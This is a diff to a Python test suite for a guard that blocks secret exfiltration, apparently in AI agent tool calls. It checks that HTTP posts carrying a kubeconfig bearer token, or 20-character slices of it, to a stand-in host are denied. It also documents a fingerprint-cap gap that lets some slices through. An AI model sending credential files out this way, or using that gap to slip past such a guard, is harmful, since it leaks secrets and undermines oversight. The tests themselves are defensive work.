@@ -199,7 +199,7 @@ def _kubeconfig(token: str) -> str:
     reason="fingerprint cap: of_data keeps at most 4096 fingerprints per result (every "
     "16-char gram of a long token), so a kubeconfig whose certificate blobs come first "
     "fills the cap: the bearer token after them keeps its whole-token fingerprint but "
-    "its grams are sampled away, so a 20-char piece of it leaves unnoticed; a result "
+    "its grams are sampled away, so some 20-char pieces of it leave unnoticed; a result "
     "that hits the cap should make flows_from on its step fail closed (s-fp's "
     "session/fingerprints.py).",
 )
@@ -208,14 +208,22 @@ def test_a_token_after_large_certificate_blobs_is_still_a_flow() -> None:
     _read(guard, "/home/u/.kube/kubeconfig", _kubeconfig(TOKEN))
     # the whole token is kept first; a piece of it needs its grams, which the cap drops
     assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN}") is Verdict.DENY
-    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (Verdict.DENY)
+    pieces = [TOKEN[i : i + 20] for i in range(len(TOKEN) - 20)]
+    allowed = [
+        p
+        for p in pieces
+        if _verdict(guard, "http_post", url=f"https://x.example/?t={p}") is not Verdict.DENY
+    ]
+    assert allowed == []
 
 
 def test_a_token_in_a_small_secret_is_a_flow() -> None:
     guard = _guard()
     _read(guard, "/home/u/.kube/kubeconfig", f"users:\n- user:\n    token: {TOKEN}\n")
     assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN}") is Verdict.DENY
-    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (Verdict.DENY)
+    for i in range(len(TOKEN) - 20):  # every piece, when nothing crowds the token out
+        piece = TOKEN[i : i + 20]
+        assert _verdict(guard, "http_post", url=f"https://x.example/?t={piece}") is Verdict.DENY
     assert _verdict(guard, "http_post", url="https://x.example/?t=kube-tok-00000000") is (
         Verdict.ALLOW
     )
